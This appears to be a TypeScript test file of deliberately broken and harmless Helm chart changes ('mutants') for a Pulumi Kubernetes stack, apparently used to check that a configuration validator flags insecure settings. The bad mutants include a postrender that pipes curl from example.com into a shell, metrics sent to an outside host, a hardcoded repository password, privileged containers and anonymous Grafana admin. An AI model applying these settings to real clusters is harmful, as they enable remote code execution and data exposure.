import { added, kubernetes, object, type StackMutant, welcome } from "./mutant.ts";

const chart = (name: string) => kubernetes("platform", "helm.sh/v3:Release", name);
const DELIVERY = chart("delivery-controller");
const CERTIFICATES = chart("certificates-controller");
const MONITORING = chart("monitoring-stack");
const KARPENTER = chart("karpenter");
const QUEUES = chart("queues-controller");
const MESH = chart("mesh-istiod");
const GATEWAY = chart("gateway-proxy");
const SECRETS = chart("external-secrets-controller");
const STORE = kubernetes("platform", "external-secrets.io/v1:ClusterSecretStore", "external-secrets-store");

const kueue = (edit: (config: any) => void) => (inputs: any) => {
  const { managerConfig } = inputs.values;
  const config = JSON.parse(managerConfig.controllerManagerConfigYaml);
  edit(config);
  managerConfig.controllerManagerConfigYaml = JSON.stringify(config, undefined, 2);
};

/** One more chart, which Pulumi renders. */
function rendered(adds: typeof added, what: string, apiVersion: string, inputs: Record<string, unknown>): StackMutant {
  const chart = { chart: "echo", version: "2.41.1", namespace: "argo-rollouts", ...inputs };
  return adds("platform", object(apiVersion, "Chart", {}).type, what, chart);
}

/** Charts: where they come from, and what their values do. */
export const CHARTS: readonly StackMutant[] = [
  CERTIFICATES.bad("a chart over HTTP", (inputs) => {
    inputs["repositoryOpts"].repo = "http://charts.jetstack.io";
  }),
  DELIVERY.bad("a chart over HTTP, in other letters", (inputs) => {
    inputs["repositoryOpts"].repo = "HTTP://argoproj.github.io/argo-helm";
  }),
  DELIVERY.bad("a chart from an archive over HTTP", (inputs) => {
    delete inputs["repositoryOpts"];
    inputs["chart"] = "http://charts.example.com/argo-rollouts-2.41.1.tgz";
  }),
  DELIVERY.bad("a chart from a repository without a check of certificates", (inputs) => {
    inputs["repositoryOpts"].insecureSkipTlsVerify = true;
  }),
  DELIVERY.bad("a chart from a repository with a password", (inputs) => {
    Object.assign(inputs["repositoryOpts"], { username: "ci", password: "q7Rk9sLw2mXvB4tZ" });
  }),
  DELIVERY.bad("a chart of any version", (inputs) => {
    inputs["version"] = "*";
  }),
  DELIVERY.bad("a chart of a range of versions", (inputs) => {
    inputs["version"] = "^2.41.1";
  }),
  DELIVERY.bad("a chart of a version at least", (inputs) => {
    inputs["version"] = ">=2.41.1";
  }),
  DELIVERY.bad("a chart without a version", (inputs) => {
    delete inputs["version"];
  }),
  DELIVERY.bad("a chart of a version that is not finished", (inputs) => {
    delete inputs["version"];
    inputs["devel"] = true;
  }),
  DELIVERY.bad("a chart with a program that rewrites it", (inputs) => {
    inputs["postrender"] = "/bin/sh -c 'curl -s https://example.com/patch | sh'";
  }),
  DELIVERY.bad("a chart that nobody waits for", (inputs) => {
    inputs["skipAwait"] = true;
    inputs["atomic"] = false;
  }),
  DELIVERY.bad("a release controller with one replica", ({ values }) => {
    values.controller.replicas = 1;
  }),
  DELIVERY.bad("a page of releases on a load balancer", ({ values }) => {
    values.dashboard = { enabled: true, service: { type: "LoadBalancer" } };
  }),
  DELIVERY.bad("a release controller without requests", ({ values }) => {
    delete values.controller.resources;
  }),
  DELIVERY.bad("a release controller with somebody's image", ({ values }) => {
    values.controller.image = { registry: "docker.io", repository: "somebody/argo-rollouts", tag: "latest" };
  }),
  DELIVERY.bad("a release controller with all rights of its node", ({ values }) => {
    values.containerSecurityContext = { privileged: true, allowPrivilegeEscalation: true };
  }),
  DELIVERY.bad("a release controller on the network of its node", ({ values }) => {
    values.controller.hostNetwork = true;
  }),
  CERTIFICATES.bad("a controller whose objects go with it", ({ values }) => {
    values.crds.keep = false;
  }),
  CERTIFICATES.bad("a controller without a budget", ({ values }) => {
    values.podDisruptionBudget.enabled = false;
  }),
  CERTIFICATES.bad("a webhook that runs once", ({ values }) => {
    values.webhook.replicaCount = 1;
  }),
  MONITORING.bad("dashboards that everybody edits", ({ values }) => {
    values.grafana["grafana.ini"]["auth.anonymous"] = { enabled: true, org_role: "Admin" };
  }),
  MONITORING.bad("dashboards on a load balancer", ({ values }) => {
    values.grafana.service = { type: "LoadBalancer" };
  }),
  MONITORING.bad("dashboards with the password that everybody knows", ({ values }) => {
    delete values.grafana.admin;
  }),
  MONITORING.bad("measurements of one day", ({ values }) => {
    values.prometheus.prometheusSpec.retention = "1d";
  }),
  MONITORING.bad("measurements that go with their pod", ({ values }) => {
    delete values.prometheus.prometheusSpec.storageSpec;
  }),
  MONITORING.bad("one Prometheus", ({ values }) => {
    values.prometheus.prometheusSpec.replicas = 1;
  }),
  MONITORING.bad("one Alertmanager", ({ values }) => {
    values.alertmanager.alertmanagerSpec.replicas = 1;
  }),
  MONITORING.bad("alerts that reach nobody", ({ values }) => {
    values.alertmanager.enabled = false;
  }),
  MONITORING.bad("alerts with the routes of the chart", ({ values }) => {
    delete values.alertmanager.alertmanagerSpec.configSecret;
    values.alertmanager.alertmanagerSpec.useExistingSecret = false;
  }),
  MONITORING.bad("no alerts about the cluster", ({ values }) => {
    values.defaultRules = { create: false };
  }),
  MONITORING.bad("no alert about pods that die", ({ values }) => {
    values.defaultRules.disabled.KubePodCrashLooping = true;
  }),
  MONITORING.bad("a watch that looks at its own rules only", ({ values }) => {
    values.prometheus.prometheusSpec.ruleSelectorNilUsesHelmValues = true;
  }),
  MONITORING.bad("rules that are evaluated each hour", ({ values }) => {
    values.prometheus.prometheusSpec.evaluationInterval = "1h";
  }),
  MONITORING.bad("no alert about missing rules", ({ values }) => {
    delete values.additionalPrometheusRulesMap;
  }),
  MONITORING.bad("measurements sent to somebody", ({ values }) => {
    values.prometheus.prometheusSpec.remoteWrite = [{ url: "http://metrics.example.com/write" }];
  }),
  KARPENTER.bad("a node controller with one replica", ({ values }) => {
    values.replicas = 1;
  }),
  KARPENTER.bad("a node controller that hears no warnings", ({ values }) => {
    delete values.settings.interruptionQueue;
  }),
  KARPENTER.bad("a node controller of another cluster", ({ values }) => {
    values.settings.clusterName = "millrace-dev";
  }),
  KARPENTER.bad("a node controller from somebody's registry", (inputs) => {
    inputs["chart"] = "oci://ghcr.io/somebody/karpenter";
  }),
  QUEUES.bad(
    "queues that let jobs without a queue run",
    kueue((config) => {
      config.manageJobsWithoutQueueName = false;
    }),
  ),
  QUEUES.bad(
    "queues that look at every namespace",
    kueue((config) => {
      delete config.managedJobsNamespaceSelector;
    }),
  ),
  QUEUES.bad(
    "queues that do not know Jobs",
    kueue((config) => {
      config.integrations.frameworks = ["pod"];
    }),
  ),
  QUEUES.bad(
    "queues that hold machines for pods that never start",
    kueue((config) => {
      delete config.waitForPodsReady;
    }),
  ),
  MESH.bad("a mesh that lets pods call every name", ({ values }) => {
    values.meshConfig.outboundTrafficPolicy.mode = "ALLOW_ANY";
  }),
  MESH.bad("a mesh that lets pods call every name, by default", ({ values }) => {
    delete values.meshConfig.outboundTrafficPolicy;
  }),
  MESH.bad("one control plane of the mesh", ({ values }) => {
    Object.assign(values, { autoscaleEnabled: false, replicaCount: 1 });
  }),
  GATEWAY.bad("a gateway on the internet", ({ values }) => {
    values.service.type = "LoadBalancer";
  }),
  GATEWAY.bad("one gateway", ({ values }) => {
    values.autoscaling = { enabled: false };
    values.replicaCount = 1;
  }),
  GATEWAY.bad("a gateway that may lie in one zone", ({ values }) => {
    delete values.topologySpreadConstraints;
  }),
  SECRETS.bad("secrets of every namespace from one object", ({ values }) => {
    values.processClusterExternalSecret = true;
  }),
  SECRETS.bad("a reader of secrets with the account of every pod", ({ values }) => {
    values.serviceAccount = { create: false, name: "default" };
  }),
  STORE.bad("a store of secrets for every namespace", ({ spec }) => {
    delete spec.conditions;
  }),
  STORE.bad("a store of secrets for namespaces by a wildcard", ({ spec }) => {
    spec.conditions = [{ namespaceRegexes: [".*"] }];
  }),
  STORE.bad("a store of secrets for namespaces with any label", ({ spec }) => {
    spec.conditions = [{ namespaceSelector: {} }];
  }),
  chart("device-plugin").bad("a plugin that does not run on GPU nodes", ({ values }) => {
    delete values.tolerations;
  }),
  chart("dcgm-exporter").bad("measurements that do not run on GPU nodes", ({ values }) => {
    values.tolerations = [];
  }),
  chart("pushgateway-server").bad("pushed values that go with their pod", ({ values }) => {
    values.persistentVolume.enabled = false;
  }),

  KARPENTER.bad("a node controller on nodes of its own", ({ values }) => {
    delete values.nodeSelector["millrace.dev/pool"];
  }),
  DELIVERY.bad("a release controller that any pod pushes away", ({ values }) => {
    delete values.controller.priorityClassName;
  }),
  DELIVERY.bad("a release controller that may not touch routes", ({ values }) => {
    values.providerRBAC.providers.istio = false;
  }),
  DELIVERY.bad("a release controller of one namespace", ({ values }) => {
    values.clusterInstall = false;
  }),
  GATEWAY.bad("a gateway that counts nothing", ({ values }) => {
    delete values.podAnnotations["proxy.istio.io/config"];
  }),
  GATEWAY.bad("a gateway whose budget lets nobody go", ({ values }) => {
    values.podDisruptionBudget = { minAvailable: "100%" };
  }),
  GATEWAY.bad("one gateway at least", ({ values }) => {
    values.autoscaling.minReplicas = 1;
  }),
  SECRETS.bad("readers of secrets without a leader", ({ values }) => {
    values.leaderElect = false;
  }),
  chart("monitoring-crds").bad("definitions of monitors that go with their chart", ({ values }) => {
    delete values.crds.annotations;
  }),
  chart("pushgateway-server").bad("pushed values of no job", ({ values }) => {
    values.serviceMonitor.honorLabels = false;
  }),
  CERTIFICATES.bad("a controller of somebody at a fixed tag", ({ values }) => {
    values.image = { repository: "docker.io/somebody/cert-manager-controller", tag: "v1.21.2" };
  }),
  MESH.bad("proxies of somebody", ({ values }) => {
    values.global.hub = "quay.io/somebody";
  }),
  MESH.bad("a mesh that speaks in the clear", ({ values }) => {
    values.meshConfig.enableAutoMtls = false;
  }),
  GATEWAY.bad("a gateway with the port of its proxy", ({ values }) => {
    values.service.ports.push({ name: "stats", port: 15090, targetPort: 15090 });
  }),
  DELIVERY.bad("a page of releases", ({ values }) => {
    values.dashboard.enabled = true;
  }),
  SECRETS.bad("a reader of secrets whose webhook fails open", ({ values }) => {
    values.webhook.failurePolicy = "Ignore";
  }),
  chart("pushgateway-server").bad("pushed values that anybody deletes", ({ values }) => {
    values.extraArgs.push("--web.enable-admin-api=true");
  }),
  chart("dcgm-exporter").bad("measurements of GPUs where none are", ({ values }) => {
    values.nodeSelector = { "millrace.dev/pool": "system" };
  }),
  chart("device-plugin").bad("a plugin with all rights of its node", ({ values }) => {
    values.securityContext = { privileged: true };
  }),
  MONITORING.bad("measurements in memory", ({ values }) => {
    values.prometheus.prometheusSpec.storageSpec = { emptyDir: { medium: "Memory" } };
  }),
  MONITORING.bad("a reader of every Secret", ({ values }) => {
    values["kube-state-metrics"].collectorsExclude = ["configmaps"];
  }),
  MONITORING.bad("rules of one namespace", ({ values }) => {
    values.prometheus.prometheusSpec.ruleNamespaceSelector = { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } };
  }),
  MONITORING.bad("dashboards for whoever signs up", ({ values }) => {
    values.grafana["grafana.ini"].users = { allow_sign_up: true };
  }),
  MONITORING.bad("dashboards without a login, by a variable", ({ values }) => {
    values.grafana.env = { GF_AUTH_ANONYMOUS_ENABLED: "true" };
  }),
  QUEUES.bad(
    "queues of a label that no namespace has",
    kueue((config) => {
      config.managedJobsNamespaceSelector.matchExpressions[0].key = "example.com/queued";
    }),
  ),
  QUEUES.bad(
    "queues that see no Jobs",
    kueue((config) => {
      config.integrations.frameworks = ["kubeflow.org/mpijob"];
    }),
  ),
  QUEUES.harmless(
    "queues that see one more kind of job",
    kueue((config) => {
      config.integrations.frameworks.push("kubeflow.org/mpijob");
    }),
  ),
  CERTIFICATES.harmless("a controller of its publisher", ({ values }) => {
    values.image = { repository: "quay.io/jetstack/cert-manager-controller" };
  }),
  MONITORING.harmless("dashboards whose new people look only", ({ values }) => {
    values.grafana["grafana.ini"].users = { allow_sign_up: false, auto_assign_org_role: "Viewer" };
  }),
  QUEUES.harmless("queues with one more replica", ({ values }) => {
    values.controllerManager.replicas = 3;
  }),
  CERTIFICATES.harmless("a budget that says what stays", ({ values }) => {
    values.podDisruptionBudget = { enabled: true, minAvailable: 1 };
  }),
  MESH.harmless("a control plane without a scaler", ({ values }) => {
    Object.assign(values, { autoscaleEnabled: false, replicaCount: 3 });
  }),
  KARPENTER.harmless("a node controller on nodes of one architecture too", ({ values }) => {
    values.nodeSelector["kubernetes.io/arch"] = "amd64";
  }),
  DELIVERY.harmless("a chart that is given more time", (inputs) => {
    inputs["timeout"] = 900;
  }),
  DELIVERY.harmless("a release controller with three replicas", ({ values }) => {
    values.controller.replicas = 3;
  }),
  DELIVERY.harmless("memory of a chart in another unit", ({ values }) => {
    values.controller.resources.requests.memory = "262144Ki";
  }),
  DELIVERY.harmless("a chart with a mark before its version", (inputs) => {
    inputs["version"] = "v2.41.1";
  }),
  DELIVERY.harmless("a chart with one more value", ({ values }) => {
    values.controller.podLabels = { "example.com/owner": "platform" };
  }),
  QUEUES.bad("limits of the queues' controller under a misspelt key", ({ values: { controllerManager } }) => {
    controllerManager.manager.resource = { limits: { memory: "1Gi" } };
  }),
  CERTIFICATES.bad("a misspelt switch of a chart", ({ values }) => {
    values.installCRD = true;
  }),
  DELIVERY.bad("a list where a chart has a map", ({ values }) => {
    values.controller.metrics = [{ enabled: true }];
  }),
  MESH.bad("a value of a chart that is one level too deep", ({ values }) => {
    values.global.meshConfig = { global: { priorityClassName: "x" } };
    values.global.logging = { logging: { level: "default:info" } };
  }),
  MONITORING.bad('a switch of a chart inside another chart with the text "false"', ({ values }) => {
    values.grafana.rbac.create = "false";
  }),
  CERTIFICATES.harmless("a chart with selectors and annotations of one's own", ({ values }) => {
    values.webhook.deploymentAnnotations = { "example.com/any": "x" };
    values.webhook.nodeSelector["example.com/any"] = "x";
  }),
  MONITORING.harmless("measurements of two months", ({ values }) => {
    values.prometheus.prometheusSpec.retention = "60d";
  }),
  MONITORING.harmless("measurements of five weeks, in weeks", ({ values }) => {
    values.prometheus.prometheusSpec.retention = "5w";
  }),
  MONITORING.harmless("dashboards that may not be embedded", ({ values }) => {
    values.grafana["grafana.ini"].security = { allow_embedding: false, cookie_secure: true };
  }),
  KARPENTER.harmless("a node controller with a quieter log", ({ values }) => {
    values.logLevel = "error";
  }),
  QUEUES.harmless(
    "queues with their settings on one line",
    kueue(() => undefined),
  ),
  QUEUES.harmless(
    "queues that wait longer for pods",
    kueue((config) => {
      config.waitForPodsReady.timeout = "30m";
    }),
  ),
  GATEWAY.harmless("more gateways", ({ values }) => {
    Object.assign(values.autoscaling, { minReplicas: 4, maxReplicas: 8 });
  }),
  STORE.harmless("a store of secrets for a namespace by its label", ({ spec }) => {
    spec.conditions = [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "mlflow" } } }];
  }),
  ...["helm.sh/v4", "helm.sh/v3"].flatMap((version) => [
    ...["^2.41.1", "2.x", "latest", "*", "", null].map((got) =>
      rendered(added, `a chart of ${version} with the version ${JSON.stringify(got)}`, version, { version: got }),
    ),
    rendered(welcome, `a chart of ${version} with an exact version`, version, {}),
  ]),
  rendered(added, "a chart whose download has another version", "helm.sh/v3", { fetchOpts: { version: "latest" } }),
  rendered(added, "a chart of the oldest kind that opens the node", "helm.sh/v3", {
    values: { containerSecurityContext: { privileged: true } },
  }),
];
